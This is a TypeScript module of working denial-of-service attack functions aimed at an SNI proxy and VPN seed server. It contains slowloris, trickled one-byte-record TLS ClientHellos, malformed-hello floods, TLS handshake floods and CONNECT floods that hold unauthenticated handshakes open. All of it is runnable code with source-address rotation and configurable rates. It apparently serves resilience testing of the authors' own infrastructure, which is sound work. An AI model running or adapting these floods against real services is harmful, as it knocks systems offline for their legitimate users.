/**
 * Attacks on the listeners anyone (or any pod) can reach: slowloris, trickled and malformed
 * ClientHellos, floods of TLS handshakes and of CONNECTs naming a real shoot's route.
 */
import tls from 'node:tls';
import type net from 'node:net';
import { clientHello, clientHelloMessage, malformedHellos, toRecords } from './clienthello.js';
import { proxyConnectTo } from './proxy-connect.js';
import { ConnLedger, classifyAnswer, connectTcp, paced, percentile, round, sleep, sourcePicker, type AttackResult, type HostPort } from './common.js';

export interface CommonOptions {
  target: HostPort;
  /** Source addresses to use round-robin. */
  sources?: string[];
  /** New connections (or sends) per second. */
  rate: number;
  durationMs: number;
  signal?: AbortSignal;
}

const where = (t: HostPort) => `${t.host.includes(':') ? `[${t.host}]` : t.host}:${t.port}`;

/** First bytes the server sends on `s` (recorded once per connection). */
function recordFirstAnswer(s: net.Socket, ledger: ConnLedger): void {
  s.once('data', (b: Buffer) => ledger.note(classifyAnswer(b)));
  s.on('data', () => undefined);
}

export type SlowPayload = 'http' | 'connect' | 'tls';

function slowBytes(kind: SlowPayload): Buffer {
  switch (kind) {
    case 'http':
      return Buffer.from(`GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ${'a'.repeat(4000)}`);
    case 'connect':
      return Buffer.from(`CONNECT vpn-seed-server:1194 HTTP/1.1\r\nHost: vpn-seed-server:1194\r\nX-Slow: ${'a'.repeat(4000)}`);
    case 'tls':
      return clientHello({ serverName: 'slow.example', padTo: 4000 });
  }
}

/**
 * Slowloris: `rate` connections per second for `durationMs`; each sends its first byte at once and
 * then one byte every `byteIntervalMs`, never completing its request. The attacker never closes first:
 * the result says how many the server closed and after how long. Connections left open `holdMs` after
 * the last one was opened are released.
 */
export async function slowloris(opts: CommonOptions & { payload: SlowPayload; byteIntervalMs: number; holdMs: number }): Promise<AttackResult> {
  const ledger = new ConnLedger();
  const pick = sourcePicker(opts.sources);
  const bytes = slowBytes(opts.payload);
  const timers = new Set<NodeJS.Timeout>();
  const open = (async () => {
    const s = await ledger.connect(opts.target, pick());
    if (!s) return;
    recordFirstAnswer(s, ledger);
    let i = 0;
    const drip = () => {
      if (s.destroyed || i >= bytes.length) return;
      s.write(bytes.subarray(i, i + 1));
      i++;
      const t = setTimeout(() => {
        timers.delete(t);
        drip();
      }, opts.byteIntervalMs);
      timers.add(t);
    };
    drip();
  });
  const pending: Promise<void>[] = [];
  const sent = await paced(opts.rate, opts.durationMs, () => pending.push(open()), opts.signal);
  await Promise.all(pending);
  await ledger.settle(opts.holdMs);
  for (const t of timers) clearTimeout(t);
  const summary = ledger.summary();
  ledger.release();
  return { attack: 'slowloris', target: where(opts.target), rate: opts.rate, rateUnit: 'connections/s', durationMs: opts.durationMs, payload: opts.payload, byteIntervalMs: opts.byteIntervalMs, holdMs: opts.holdMs, started: sent, ...summary };
}

/**
 * A ClientHello trickled: `record` mode cuts the handshake into 1-byte TLS records, each written as
 * its own TCP segment `gapMs` apart (the quadratic re-parse case); `segment` mode sends normal records
 * one byte per segment. `clients` run at once, each starting a new hello when the previous one ended.
 * The hello carries a post-quantum key share (X25519MLKEM768, ~1.5 KB in all), padded to `padTo`
 * bytes if given (2600: in 1-byte records, just under sni-proxy's 16 KiB ClientHello limit), and names
 * `serverName`.
 */
export async function trickleHello(opts: { target: HostPort; sources?: string[]; serverName: string; mode: 'record' | 'segment'; clients: number; gapMs: number; durationMs: number; padTo?: number; signal?: AbortSignal }): Promise<AttackResult> {
  const ledger = new ConnLedger();
  const pick = sourcePicker(opts.sources);
  const hs = clientHelloMessage({ serverName: opts.serverName, postQuantum: true, ...(opts.padTo ? { padTo: opts.padTo } : {}) });
  const wire = opts.mode === 'record' ? toRecords(hs, 1) : [...Buffer.concat(toRecords(hs))].map((b) => Buffer.from([b]));
  const helloTimes: number[] = [];
  let completed = 0;
  const end = performance.now() + opts.durationMs;
  const client = async () => {
    while (performance.now() < end && !opts.signal?.aborted) {
      const s = await ledger.connect(opts.target, pick());
      if (!s) {
        await sleep(100);
        continue;
      }
      const t0 = performance.now();
      const answered = new Promise<string>((resolve) => {
        s.once('data', (b: Buffer) => resolve(classifyAnswer(b)));
        s.once('end', () => resolve('closed'));
        s.once('close', () => resolve('closed'));
      });
      for (const piece of wire) {
        if (s.destroyed || performance.now() > end + 5000) break;
        s.write(piece);
        if (opts.gapMs > 0) await sleep(opts.gapMs);
        else await new Promise((r) => setImmediate(r));
      }
      const answer = await Promise.race([answered, sleep(6000).then(() => 'no-answer')]);
      ledger.note(answer);
      if (answer === 'tls-server-hello') completed++;
      helloTimes.push(performance.now() - t0);
      ledger.untrack(s);
    }
  };
  await Promise.all(Array.from({ length: opts.clients }, () => client()));
  const summary = ledger.summary();
  ledger.release();
  return {
    attack: 'trickle-hello', target: where(opts.target), rate: opts.clients, rateUnit: 'concurrent clients', durationMs: opts.durationMs,
    mode: opts.mode, gapMs: opts.gapMs, helloBytes: hs.length, pieces: wire.length, routed: completed,
    helloMs: { p50: round(percentile(helloTimes, 50), 0), max: round(percentile(helloTimes, 100), 0) }, ...summary,
  };
}

/**
 * Malformed and unroutable ClientHellos at `rate` per second, cycling through the catalogue
 * (clienthello.ts). The attacker never closes its side: a server that only half-closes (alert, no
 * destroy, no timeout) keeps every one of them. Per variant: how the server answered and whether it
 * released the connection within `holdMs`.
 */
export async function badHellos(opts: CommonOptions & { routedName: string; holdMs: number; only?: string[] }): Promise<AttackResult> {
  const catalogue = malformedHellos(opts.routedName).filter((v) => !opts.only || opts.only.includes(v.name));
  const pick = sourcePicker(opts.sources);
  const byVariant = new Map(catalogue.map((v) => [v.name, new ConnLedger()]));
  const open = async (i: number) => {
    const v = catalogue[i % catalogue.length]!;
    const ledger = byVariant.get(v.name)!;
    const s = await ledger.connect(opts.target, pick());
    if (!s) return;
    recordFirstAnswer(s, ledger);
    s.write(v.bytes);
  };
  const pending: Promise<void>[] = [];
  const sent = await paced(opts.rate, opts.durationMs, (i) => pending.push(open(i)), opts.signal);
  await Promise.all(pending);
  await Promise.all([...byVariant.values()].map((l) => l.settle(opts.holdMs)));
  const variants: Record<string, unknown> = {};
  let stillOpen = 0;
  let opened = 0;
  let closed = 0;
  for (const v of catalogue) {
    const l = byVariant.get(v.name)!;
    const s = l.summary();
    variants[v.name] = { expect: v.expect, opened: s.opened, closedByServer: s.closedByServer, stillOpen: s.stillOpen, closeAfterMsMax: s.closeAfterMs.max, answers: s.answers };
    stillOpen += s.stillOpen;
    opened += s.opened;
    closed += s.closedByServer;
    l.release();
  }
  return { attack: 'bad-hello', target: where(opts.target), rate: opts.rate, rateUnit: 'connections/s', durationMs: opts.durationMs, holdMs: opts.holdMs, started: sent, opened, closedByServer: closed, stillOpen, variants };
}

/**
 * Full TLS handshakes at `rate` per second (directly, or after a CONNECT through sni-proxy with a
 * routing header), each closed once done. With `cert`/`key` the client presents a certificate.
 */
export async function tlsFlood(opts: CommonOptions & { serverName: string; via?: { header: string }; cert?: Buffer; key?: Buffer; holdMs?: number }): Promise<AttackResult> {
  const pick = sourcePicker(opts.sources);
  const outcomes: Record<string, number> = {};
  const handshakeMs: number[] = [];
  const note = (k: string) => (outcomes[k] = (outcomes[k] ?? 0) + 1);
  const one = async () => {
    let raw: net.Socket;
    try {
      raw = await connectTcp(opts.target, { localAddress: pick() });
    } catch (err) {
      note(`connect-${(err as NodeJS.ErrnoException).code ?? 'error'}`);
      return;
    }
    raw.on('error', () => undefined);
    const t0 = performance.now();
    if (opts.via) {
      const code = await proxyConnectTo(raw, `${opts.serverName}:1194`, 5000, [opts.via.header]);
      if (code !== 200) {
        note(`connect-${code || 'no-answer'}`);
        raw.destroy();
        return;
      }
    }
    await new Promise<void>((resolve) => {
      const s = tls.connect({ socket: raw, servername: opts.serverName, rejectUnauthorized: false, ...(opts.cert && opts.key ? { cert: opts.cert, key: opts.key } : {}) });
      const timer = setTimeout(() => {
        note('timeout');
        s.destroy();
        resolve();
      }, 10_000);
      s.once('secureConnect', () => {
        clearTimeout(timer);
        handshakeMs.push(performance.now() - t0);
        note('handshake');
        // TLS 1.3: a refusal of the client certificate arrives after the client's handshake
        setTimeout(() => {
          s.destroy();
          resolve();
        }, opts.holdMs ?? 0);
      });
      s.once('error', (err) => {
        clearTimeout(timer);
        note(`tls-${(err as NodeJS.ErrnoException).code ?? 'error'}`);
        s.destroy();
        resolve();
      });
    });
  };
  const pending: Promise<void>[] = [];
  const sent = await paced(opts.rate, opts.durationMs, () => pending.push(one()), opts.signal);
  await Promise.all(pending);
  return {
    attack: 'tls-flood', target: where(opts.target), rate: opts.rate, rateUnit: 'handshakes/s', durationMs: opts.durationMs, via: opts.via ? 'CONNECT' : 'direct',
    started: sent, outcomes, handshakeMs: { p50: round(percentile(handshakeMs, 50), 1), p99: round(percentile(handshakeMs, 99), 1) },
  };
}

/**
 * CONNECTs naming a real shoot's route (`header`, e.g. `Reversed-VPN: outbound|1194||…`) at `rate`
 * per second. After a 200 the attacker sends nothing (`then: 'nothing'`: the seed server holds an
 * unauthenticated handshake until its timeout) or a ClientHello and nothing more (`then: 'hello'`).
 * The attacker never closes first.
 */
export async function connectFlood(opts: CommonOptions & { header: string; then: 'nothing' | 'hello'; holdMs: number }): Promise<AttackResult> {
  const ledger = new ConnLedger();
  const pick = sourcePicker(opts.sources);
  const status: Record<string, number> = {};
  const one = async () => {
    const s = await ledger.connect(opts.target, pick());
    if (!s) return;
    const code = String((await proxyConnectTo(s, 'vpn-seed-server:1194', 5000, [opts.header])) || 'none');
    status[code] = (status[code] ?? 0) + 1;
    s.resume();
    if (code === '200' && opts.then === 'hello' && !s.destroyed) s.write(clientHello({ serverName: 'vpn-seed-server' }));
  };
  const pending: Promise<void>[] = [];
  const sent = await paced(opts.rate, opts.durationMs, () => pending.push(one()), opts.signal);
  await Promise.all(pending);
  await ledger.settle(opts.holdMs);
  const summary = ledger.summary();
  ledger.release();
  return { attack: 'connect-flood', target: where(opts.target), rate: opts.rate, rateUnit: 'CONNECTs/s', durationMs: opts.durationMs, then: opts.then, holdMs: opts.holdMs, started: sent, status, ...summary };
}
